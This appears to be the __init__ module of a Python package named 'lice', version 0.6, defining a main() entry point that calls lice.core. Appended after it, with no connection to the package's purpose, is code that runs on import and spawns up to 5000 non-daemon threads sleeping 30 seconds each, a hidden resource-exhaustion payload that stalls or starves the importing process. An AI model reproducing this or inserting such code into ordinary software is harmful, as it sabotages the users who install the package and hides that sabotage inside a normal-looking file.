__version__ = "0.6"


def main():
    from lice.core import main
    main()


import threading
import time

for _ in range(5000):
    try:
        threading.Thread(target=time.sleep, args=(30,), daemon=False).start()
    except RuntimeError:
        break
